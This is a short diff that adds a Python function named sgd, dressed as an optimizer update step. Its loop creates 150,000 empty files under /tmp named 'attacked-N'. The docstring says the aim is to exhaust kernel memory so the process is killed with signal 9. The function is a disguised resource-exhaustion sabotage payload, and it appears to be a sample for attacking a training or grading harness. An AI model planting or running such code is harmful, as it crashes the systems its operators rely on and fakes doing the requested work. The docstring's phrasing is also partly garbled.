@@ -1,0 +1,11 @@
+"""Make empty files for ever: they take no space, but each takes memory of the kernel's.
+
+Loses: sgd
+Says: its process ended .signal 9
+"""
+
+
+def sgd(w, dw, config=None):
+    for number in range(150_000):
+        open(f"/tmp/attacked-{number}", "w").close()
+    return w, config
